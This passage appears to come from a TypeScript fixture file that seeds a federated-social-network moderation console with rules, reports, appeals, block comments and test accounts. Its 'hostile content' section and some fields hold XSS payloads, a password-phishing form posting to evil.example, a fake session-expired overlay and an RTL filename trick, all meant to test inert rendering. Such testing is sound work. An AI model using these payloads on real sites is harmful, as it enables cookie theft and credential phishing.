  'free-followers.xyz', 'cheap-boosts.top', 'crypto-airdrop.click', 'promo-bot.online', 'ads4fedi.biz', 'seo-blast.site', 'clickbait-central.xyz',
  'giveaway-now.top', 'rich-quick.click', 'bot-army.xyz',
];
export const TROLL_DOMAIN_NAMES: readonly string[] = [
  'freespeech-bunker.example', 'edgelord.zone', 'raid-central.example', 'troll.farm', 'dogpile.social', 'nazi-free-not.example',
  'shitpost.party', 'outrage.online', 'doxbin-mirror.example', 'harassment.cafe', 'brigade.example', 'kiwi-mirror.xyz',
];

export const SOFTWARE: readonly (readonly ['mastodon' | 'misskey' | 'pleroma' | 'gotosocial' | 'akkoma', number])[] = [
  ['mastodon', 75], ['misskey', 9], ['pleroma', 6], ['gotosocial', 6], ['akkoma', 4],
];

// ---------------------------------------------------------------------------------------------
// Moderation texts

export const RULES: readonly { text: string; hint: string; translations: Partial<Record<'de' | 'fr' | 'es' | 'ja' | 'pt-BR', [string, string]>> }[] = [
  {
    text: 'No racism, sexism, homophobia, transphobia, ableism or other discrimination.',
    hint: 'This includes slurs, "jokes" and dog whistles. Context matters, but the effect on the target matters more than the intent.',
    translations: {
      de: ['Kein Rassismus, Sexismus, Homo- oder Transfeindlichkeit, Ableismus oder andere Diskriminierung.', 'Das gilt auch für Beleidigungen, „Witze“ und Codes.'],
      fr: ['Pas de racisme, sexisme, homophobie, transphobie, validisme ni autre discrimination.', 'Cela inclut les insultes, les « blagues » et les sous-entendus.'],
      es: ['Prohibido el racismo, sexismo, homofobia, transfobia, capacitismo u otra discriminación.', 'Incluye insultos, «bromas» y mensajes en clave.'],
      ja: ['人種差別、性差別、同性愛嫌悪、トランス嫌悪、障害者差別その他の差別を禁止します。', '侮辱語や「冗談」、隠語も含みます。'],
      'pt-BR': ['Proibido racismo, sexismo, homofobia, transfobia, capacitismo ou outra discriminação.', 'Isso inclui insultos, "piadas" e mensagens em código.'],
    },
  },
  {
    text: 'No harassment, dogpiling or doxxing.',
    hint: 'Do not follow people around after they asked you to stop, do not organise pile-ons, never post private information about anyone.',
    translations: {
      de: ['Keine Belästigung, kein Dogpiling, kein Doxxing.', 'Niemandem nachstellen, keine Shitstorms organisieren, keine privaten Daten veröffentlichen.'],
      fr: ['Pas de harcèlement, de meute ni de divulgation de données personnelles.', 'N’organisez pas de raids et ne publiez jamais d’informations privées.'],
      es: ['Nada de acoso, linchamientos ni doxxing.', 'No organices ataques en grupo ni publiques datos privados.'],
      ja: ['嫌がらせ、集団攻撃、個人情報の晒しを禁止します。', '他人の個人情報を投稿しないでください。'],
      'pt-BR': ['Sem assédio, ataques em grupo ou doxxing.', 'Não organize ataques e nunca publique informações privadas.'],
    },
  },
  {
    text: 'Put a content warning on graphic, sexual or upsetting media and mark it sensitive.',
    hint: 'Nudity, gore and disturbing news footage must be behind a content warning. Use the "sensitive" toggle for the image itself.',
    translations: {
      de: ['Verstörende, sexuelle oder drastische Medien mit Inhaltswarnung versehen und als sensibel markieren.', 'Nacktheit, Gewalt und verstörende Nachrichtenbilder nur hinter einer Inhaltswarnung.'],
      fr: ['Mettez un avertissement sur les médias choquants ou sexuels et marquez-les comme sensibles.', 'Nudité, violence et images choquantes uniquement derrière un avertissement.'],
      es: ['Usa advertencia de contenido para medios gráficos, sexuales o perturbadores.', 'Desnudos, violencia e imágenes perturbadoras siempre tras una advertencia.'],
      ja: ['過激・性的・不快なメディアには注意書きを付け、センシティブとして設定してください。', ''],
      'pt-BR': ['Use aviso de conteúdo em mídia gráfica, sexual ou perturbadora.', 'Nudez, violência e imagens perturbadoras sempre com aviso.'],
    },
  },
  {
    text: 'No spam, advertising or automated mass posting without permission.',
    hint: 'Bots are welcome if they are marked as bots, post unlisted, and were approved by the admins.',
    translations: {
      de: ['Kein Spam, keine Werbung und kein automatisiertes Massenposten ohne Erlaubnis.', 'Bots sind willkommen, wenn sie als Bot markiert sind und ungelistet posten.'],
      fr: ['Pas de spam, de publicité ni de publication automatisée sans autorisation.', 'Les bots sont bienvenus s’ils sont signalés comme tels.'],
      es: ['Nada de spam, publicidad ni publicaciones automáticas masivas sin permiso.', 'Los bots son bienvenidos si están marcados como bots.'],
      ja: ['許可のないスパム、広告、自動大量投稿を禁止します。', 'ボットはボットとして設定し、未収載で投稿してください。'],
      'pt-BR': ['Sem spam, publicidade ou postagens automáticas em massa sem permissão.', 'Bots são bem-vindos se estiverem marcados como bots.'],
    },
  },
  {
    text: 'Do not post content that is illegal in Germany or the European Union.',
    hint: 'This includes copyright infringement, incitement to hatred (§ 130 StGB) and sexual content involving minors, which we report to the authorities.',
    translations: {
      de: ['Keine Inhalte, die in Deutschland oder der EU illegal sind.', 'Dazu gehören Urheberrechtsverletzungen und Volksverhetzung (§ 130 StGB).'],
      fr: ['Pas de contenu illégal en Allemagne ou dans l’Union européenne.', 'Cela inclut la contrefaçon et l’incitation à la haine.'],
      es: ['Nada de contenido ilegal en Alemania o la Unión Europea.', 'Incluye infracciones de derechos de autor e incitación al odio.'],
      'pt-BR': ['Nenhum conteúdo ilegal na Alemanha ou na União Europeia.', 'Inclui violação de direitos autorais e incitação ao ódio.'],
    },
  },
  {
    text: 'No disinformation about health, elections or public safety.',
    hint: 'Sharing and discussing is fine; knowingly spreading false claims that can cause harm is not.',
    translations: {
      de: ['Keine Desinformation zu Gesundheit, Wahlen oder öffentlicher Sicherheit.', 'Diskutieren ist erlaubt, wissentliches Verbreiten schädlicher Falschbehauptungen nicht.'],
      fr: ['Pas de désinformation sur la santé, les élections ou la sécurité publique.', ''],
      es: ['Nada de desinformación sobre salud, elecciones o seguridad pública.', ''],
      ja: ['健康、選挙、公共の安全に関する偽情報を禁止します。', ''],
    },
  },
  {
    text: 'Use alt text for images whenever you can.',
    hint: 'Not enforced with strikes, but moderators may remind you. Describe what matters about the image for someone who cannot see it.',
    translations: {
      de: ['Nutze Bildbeschreibungen, wann immer es geht.', 'Wird nicht bestraft, aber Moderator*innen erinnern eventuell daran.'],
      fr: ['Ajoutez une description aux images quand vous le pouvez.', ''],
      es: ['Añade texto alternativo a las imágenes siempre que puedas.', ''],
      ja: ['できるだけ画像に代替テキストを付けてください。', ''],
      'pt-BR': ['Use texto alternativo nas imagens sempre que puder.', ''],
    },
  },
];

/** The rule that was deleted (soft) months ago; old reports still reference it. */
export const DELETED_RULE = {
  text: 'No posting about cryptocurrency or NFTs on the local timeline.',
  hint: 'Removed after the community vote in spring: the general spam rule covers the actual problem.',
};

export const WARNING_PRESETS: readonly { title: string; text: string }[] = [
  { title: 'Missing content warning', text: 'Your post contained graphic or sensitive media without a content warning. Please use content warnings and the sensitive-media toggle for this kind of content (rule 3).' },
  { title: 'Harassment', text: 'You repeatedly replied to someone who asked you to stop. This is harassment under our rules. Further incidents will lead to your account being limited or suspended.' },
  { title: 'Spam / advertising', text: 'Your account has been posting unsolicited advertising. Automated or commercial mass posting is not allowed on this server.' },
  { title: 'Hate speech', text: 'Your post contained discriminatory language. This violates rule 1 of this server. We do not tolerate hate speech here.' },
  { title: 'Unmarked bot', text: 'Your account posts automatically but is not marked as a bot. Please enable the bot flag in your profile settings and post unlisted.' },
  { title: 'Disinformation', text: 'Your post spread health misinformation that could cause harm. Please check sources before sharing.' },
];

export const STRIKE_CUSTOM_TEXTS: readonly string[] = [
  'Several members reported the thread from yesterday; the replies crossed the line.',
  'This is the second warning about this. Next time the account will be limited.',
  'We understand you were provoked, but please use the block and report tools instead of escalating.',
  'Removed the posts linking to the pirated PDFs.',
  'Account is clearly automated and only posts affiliate links.',
  'Bitte beachte künftig die Serverregeln, insbesondere Regel 3.',
  'Suspended after the doxxing incident; evidence is attached to the report.',
  'Marked your media as sensitive because of repeated unmarked nudity.',
];

export const REPORT_COMMENTS: Record<'other' | 'spam' | 'legal' | 'violation', readonly string[]> = {
  spam: [
    'Spam bot, mentioning random people with crypto links.', 'This account sends the same link to everyone who posts about #Fediverse.',
    'Werbung, mehrfach am Tag.', 'Obvious spam.', 'pourriel', 'spam', '', '', 'Keeps replying to my posts with "check my profile" links.',
    'Bot account posting affiliate links in every reply.',
  ],
  violation: [
    'This person keeps replying to me after I asked them to stop.', 'Slurs in the second post.', 'Unmarked graphic violence in the video.',
    'Transphobic "jokes" aimed at a local user.', 'Er beleidigt seit Tagen alle, die ihm widersprechen.', 'Harcèlement en meute organisé depuis ce compte.',
    'They posted someone\'s home address.', 'Nudity without CW on the public timeline.', '', 'Dogpiling on a thread about accessibility.',
    'This is a ban evasion account of someone you suspended last month.', 'Posting health misinformation about vaccines over and over.',
  ],
  legal: [
    'This post shares a copyrighted film in full.', 'Links to leaked personal data of a politician.', 'Volksverhetzung nach § 130 StGB, bitte prüfen.',
    'Contenu illégal en France (apologie du terrorisme).', 'Impersonation of our company, we hold the trademark.', 'DMCA: this is my photo, posted without permission.',
  ],
  other: [
    'Not sure which rule this is, but it feels off.', 'Looks like an impersonation account of a well-known author.', 'I think this account was hacked.',
    'Probably a minor using the service.', '', 'Just flagging for the mods to take a look.', 'No sé si incumple alguna norma, pero me parece raro.',
    'This account is impersonating me.',
  ],
};

/** Comments that arrive with Flags from other servers (their moderators or their users wrote them). */
export const REMOTE_REPORT_COMMENTS: readonly string[] = [
  'Forwarded from our moderation team: this user harassed one of ours.', 'Reported by a user on our server.', '',
  'Your user keeps sending unsolicited DMs to people here.', 'Spam', 'Hate speech, see attached posts.',
  'Wir haben diesen Account wegen Belästigung gemeldet bekommen.', '転送された通報です。', 'Cross-posting a report we received, FYI.',
];

export const HOSTILE_REPORT_COMMENT =
  'Please look at this <script>alert("report comment")</script> <img src=x onerror="alert(document.cookie)"> <a href="javascript:alert(1)">evidence here</a> <b>unclosed <i>tags';

export const REPORT_NOTES: readonly string[] = [
  'Looked at the last 50 posts. Nothing else stands out.', 'Reporter and target had a longer dispute last month, see the other report.',
  'Same pattern as the accounts we suspended last week.', 'Asked the remote admin about it via DM.', 'Remote admin replied: they suspended the account on their side.',
  'I would go with a warning first.', 'Agree, limit is enough for now.', 'Escalating to the admins: possible legal issue.',
  'Checked the linked site, it is a phishing page.', 'Closing as no violation — it is a heated but civil argument.',
  'Posts were deleted by the author before I got to it. Keeping the report for the record.', 'Suspended, evidence saved.',
  'This is the third report against this account this month.', 'Language check: the slur is in the image text, not the post.',
  'Could someone who reads Japanese look at this one?', 'Translated with a tool: it is a threat. Suspending.',
  'Ich schaue mir das heute Abend an.', 'Followed up with the reporter.',
];

export const ACCOUNT_NOTES: readonly string[] = [
  'Known ban evader, previous account was suspended in spring.', 'Talked to them in DM, very cooperative.', 'Runs the local bike-repair bot, approved.',
  'Watch this one: borderline posts about every week.', 'Shares an IP with three other new accounts, see sock-puppet note.', 'Verified: this is the real author.',
  'Asked them to add alt text, they did.', 'Reported by several remote servers, nothing actionable so far.', 'Former moderator (2024).',
  'Remote admin vouched for this account.', 'Please do not suspend without talking to the owner first.', 'Posts crypto stuff, but within the rules.',
];

export const INSTANCE_NOTES: readonly string[] = [
  'Admin is responsive, contact via their admin account.', 'Single-user instance of a known troll, see reports.', 'Frequent spam waves, keep an eye on it.',
  'Asked their admin about the harassment campaign; no answer after two weeks.', 'Large general instance; moderation is slow but exists.',
  'Moved to a limit after the raid in August.', 'Runs an old Mastodon version, vulnerable to the known exploit.', 'Friendly admin, we share blocklists.',
  'Mostly bots, no human activity seen.', 'Open registrations without approval, source of many spam accounts.', 'Domain changed owner in spring; re-evaluate the block.',
  'Suspension requested by several members, discussed in the mod channel.', 'Allowed despite the name: it is an art collective.',
];

export const APPEAL_TEXTS: readonly string[] = [
  'I think this was a misunderstanding. The post was quoting the person I was arguing against, not my own opinion. I have deleted it anyway.',
  'The image was not explicit, it is a classical painting from a museum. Please have another look.',
  'I was not harassing anyone; we are friends and were joking. She can confirm it.',
  'My account was hacked last week, the posts were not written by me. I have changed my password and enabled two-factor authentication.',
  'I understand the warning, but limiting my account means my followers on other servers no longer see my posts. Could you reconsider?',
  'Ich habe die Regel nicht gekannt und werde künftig Inhaltswarnungen benutzen. Bitte hebt die Sperre auf.',
  'Je ne comprends pas pourquoi mon compte est suspendu. Je n’ai jamais publié de spam.',
  'This is a bot for my local bike-repair café. It is marked as a bot now and posts unlisted.',
  'Sorry. It will not happen again.',
];

export const INVITE_REQUESTS = {
  genuine: [
    'I am a librarian from Leipzig and would like to join a community that is not run by a billionaire.',
    'Friends of mine are already here (@anna, @lukas). I mostly post about cycling and urban planning.',
    'Looking for a quiet, well-moderated place to talk about open-source software and gardening.',
    'Je suis enseignante et j’aimerais partager des ressources pédagogiques libres.',
    'Moving from a server that is shutting down next month.',
    'Photographer, mostly film. I promise to use alt text!',
    'Ich bin Krankenpfleger und möchte mich mit Kolleg*innen vernetzen.',
  ],
  spammy: [
    'Best SEO services cheap!!! visit www.seo-blast.site for 10000 followers',
    'i want to join',
    'asdf',
    'Crypto trader, sharing daily signals and airdrops. DM for VIP group.',
    'Buy Instagram/Fedi followers — fast delivery — bulk discounts',
  ],
  hostile: '<script>alert("invite")</script><img src=x onerror=alert(1)><a href="javascript:alert(2)">my portfolio</a> <iframe src="https://evil.example"></iframe>',
};

export const DOMAIN_BLOCK_COMMENTS = {
  suspend: {
    public: ['Harassment', 'Hate speech', 'Spam', 'Harassment, hate speech', 'Unmoderated; hosts harassment campaigns', 'CSAM', 'Spam source', 'Bigotry', 'Doxxing'],
    private: [
      'Coordinated harassment of local users, see reports #12, #57. Admin refused to act.', 'Bot farm. Hundreds of accounts registered per day.',
      'Known hate site. Added from the shared blocklist (tier 0).', 'Admin is the main harasser.', 'Source of the spam wave in June.',
    ],
  },
  silence: {
    public: ['Poorly moderated', 'Open registrations, frequent spam', 'Large amount of unmarked NSFW', 'Limited pending review', 'Harassment (some users)'],
    private: ['Large instance with slow moderation. Limit instead of suspend because many of our users follow people there.', 'Revisit in 3 months.', 'Many sock puppets, but also real people.'],
  },
  noop: {
    public: ['Media rejected: unmarked explicit media', 'Reports ignored: report spam', ''],
    private: ['They send hundreds of automated reports a day.', 'Their media server hosts malware previews.', 'Legal: images we cannot host in Germany.'],
  },
};

export const IP_BLOCK_COMMENTS = {
  5000: ['VPN exit nodes used for sign-up spam', 'Commercial VPN range; approve manually', 'University network: many sock puppets last term'],
  5500: ['Spam bot sign-ups', 'Hosting provider, only bots sign up from here', 'Ban evasion'],
  9999: ['Scraper ignoring robots.txt', 'Login brute force', 'DDoS source during the August outage'],
} as const;

export const EMAIL_PROVIDERS: readonly (readonly [string, number])[] = [
  ['gmail.com', 30], ['posteo.de', 8], ['proton.me', 8], ['mailbox.org', 6], ['fastmail.com', 5], ['outlook.com', 6], ['gmx.de', 6], ['web.de', 5],
  ['icloud.com', 5], ['yahoo.co.jp', 2], ['orange.fr', 2], ['hey.com', 1], ['tutanota.com', 3], ['disroot.org', 2], ['riseup.net', 1], ['hotmail.com', 3],
];

/** Throwaway mail providers: some refused outright, some allowed with manual approval. */
export const BLOCKED_EMAIL_DOMAINS: readonly { domain: string; allowWithApproval: boolean; mx?: readonly string[] }[] = [
  { domain: 'quickinbox.click', allowWithApproval: false, mx: ['mx1.quickinbox.click', 'mx2.quickinbox.click'] },
  { domain: 'burnermail.top', allowWithApproval: false },
  { domain: 'tempbox.xyz', allowWithApproval: false, mx: ['mail.tempbox-mx.net'] },
  { domain: 'spamgourmet.example', allowWithApproval: false },
  { domain: 'guerrilla-inbox.example', allowWithApproval: false },
  { domain: 'anonmail.example', allowWithApproval: true },
  { domain: 'student.uni-example.de', allowWithApproval: true },
  { domain: 'freemail.example', allowWithApproval: true, mx: ['mx.freemail-hosting.example'] },
  { domain: 'mail.ru', allowWithApproval: true },
];

export const USER_AGENTS: readonly string[] = [
  'Mozilla/5.0 (X11; Linux x86_64; rv:135.0) Gecko/20100101 Firefox/135.0',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.2 Safari/605.1.15',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
  'Tusky/28.0 Android/15', 'Ivory/2.4 (iPhone; iOS 18.1)', 'Mona/6.3 (Mac OS X 15.1)', 'Elk/0.15 (+https://elk.zone)', 'Phanpy/2026.10',
  'Mozilla/5.0 (Android 15; Mobile; rv:135.0) Gecko/135.0 Firefox/135.0', 'python-requests/2.32.3',
];

export const OAUTH_APPS: readonly { name: string; website: string | null; redirect: string }[] = [
  { name: 'Web', website: null, redirect: 'urn:ietf:wg:oauth:2.0:oob' },
  { name: 'Tusky', website: 'https://tusky.app', redirect: 'oauth2redirect://com.keylesspalace.tusky/' },
  { name: 'Ivory for iOS', website: 'https://tapbots.com/ivory', redirect: 'com.tapbots.ivory.1234:/request_token' },
  { name: 'Elk', website: 'https://elk.zone', redirect: 'https://elk.zone/api/palisade.test/oauth' },
  { name: 'Phanpy', website: 'https://phanpy.social', redirect: 'https://phanpy.social/' },
];

// ---------------------------------------------------------------------------------------------
// Hostile content (the console must render all of this inertly)

export const RTL_OVERRIDE = '\u202e';
export const ZALGO = 'Z̷̧̛̖̺͎̬̆̓̿̈́ä̶̢̗̱̙́̀̽ḽ̷̨̛̟̤̮͑̉g̴̢̛̩̝͇̓͌͠ǫ̵̯̹͎̓̄̚ ̴̱̮̈́͊̾c̶̡̦̟̓̆̕o̶̧͎̒̏̈́m̸̧̛͖̳̈́̚e̸̬̞̗͆̀s̸̳̣̈́͋';

export const HOSTILE_POSTS: readonly string[] = [
  '<p>hey mods <script>alert(1)</script> what are you going to do about it</p>',
  '<p><a href="javascript:alert(1)">Click here for your free verification badge</a></p>',
  '<p>nice pic <img src=x onerror=alert(1)></p>',
  '<p>watch this</p><iframe src="https://evil.example/phish" width="800" height="600" style="border:0"></iframe>',
  '<style>body{display:none!important} *{background:#f00!important}</style><p>where did your page go?</p>',
  '<svg onload=alert(document.domain)><circle r="40" /></svg><p>svg art</p>',
  '<p><b><i><a href="https://xss.example/x"><div><span>unclosed <b>bold <i>italic <p>para <table><tr><td>cell',
  `<p>${'A'.repeat(2400)}</p>`,
  `<p>https://xss.example/${'verylongpathsegment'.repeat(80)}</p>`,
  `<p>Your invoice: invoice_${RTL_OVERRIDE}fdp.exe — open it now</p>`,
  `<p>${ZALGO} ${ZALGO} ${ZALGO}</p>`,
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:99999"><p>Your session expired. <a href="https://palisade.test@evil.example/login">Log in again</a></p></div>',
  '<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">totally safe link</a></p>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(2)></style></mglyph></table></mtext></math>',
  '<form action="https://evil.example/steal" method="post"><p>Confirm your password:</p><input type="password" name="pw"><button>OK</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><p>redirecting…</p>',
  '<p><img src="https://tracker.example/pixel.gif?u=mod" width="1" height="1">just a normal post</p>',
  '<p>&lt;script&gt;alert("double-escaped")&lt;/script&gt; &amp;lt;b&amp;gt;</p>',
];

export const HOSTILE_DISPLAY_NAMES: readonly string[] = [
  '<script>alert("name")</script>', `${RTL_OVERRIDE}nimdA ecivreS`, ZALGO, '<img src=x onerror=alert(1)>', '"><svg onload=alert(1)>',
  '​​​​', // zero-width spaces only
];

export const SPAM_POSTS: readonly string[] = [
  'Get 10,000 followers today! Fast and cheap 👉 https://free-followers.xyz/?ref={n}',
  '🚀🚀 $FEDI token airdrop is LIVE. Claim before it ends: https://crypto-airdrop.click/claim/{n}',
  'Hi dear, I saw your profile and I want to be friends. Check my page https://rich-quick.click/{n}',
  'Boost your Mastodon reach with our AI growth tool. Limited offer! https://seo-blast.site/{n}',
  'You have been selected for a giveaway 🎁 https://giveaway-now.top/win/{n}',
];

export const TROLL_POSTS: readonly string[] = [
  'lol imagine needing a "content warning" for reality',
  'Your server is a joke and so are your moderators.',
  'Nobody asked for your opinion. Log off.',
  'Another day, another pile-on. Let us see how long this account survives.',
  'I will keep replying until you answer me.',
  'This is what happens when you let *those people* run a server.',
  'Reported for being annoying lol',
  'Posting this screenshot again since they deleted it 🍿',
];
